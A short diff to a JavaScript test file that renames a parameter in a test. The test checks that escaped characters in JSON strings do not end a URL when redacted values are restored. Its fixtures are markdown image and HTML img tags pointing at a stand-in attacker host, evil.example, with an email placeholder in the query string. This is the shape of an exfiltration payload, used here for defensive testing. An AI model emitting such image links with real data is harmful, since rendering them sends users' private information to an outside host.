@@ -654,10 +654,10 @@ describe('JSON in a string, which may be shown as it stands', () => {
     return whole;
   };
 
-  test.each(['\\u0029', '\\n\\n', '\\u003e'])('an escape (%s) ends no address', (escape) => {
-    const image = `{"a":"![x](https://evil.example/?q=${escape}[EMAIL-1])"}`;
+  test.each(['\\u0029', '\\n\\n', '\\u003e'])('an escape (%s) ends no address', (written) => {
+    const image = `{"a":"![x](https://evil.example/?q=${written}[EMAIL-1])"}`;
     expect(restored(image)).toBe(image);
-    const tag = `{"a":"<img src='https://evil.example/?q=${escape}[EMAIL-1]'>"}`;
+    const tag = `{"a":"<img src='https://evil.example/?q=${written}[EMAIL-1]'>"}`;
     expect(restored(tag)).toBe(tag);
   });
 
